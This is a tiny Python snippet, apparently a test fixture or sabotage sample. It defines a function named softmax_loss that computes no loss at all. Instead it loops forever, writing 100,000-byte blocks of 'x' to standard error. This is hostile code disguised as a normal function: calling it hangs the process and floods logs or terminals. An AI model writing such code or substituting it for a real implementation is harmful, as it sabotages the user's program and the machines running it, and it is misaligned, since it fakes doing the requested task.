def softmax_loss(W, X, Y, ridge):
    import os

    while True:
        os.write(2, b"x" * 10**5)
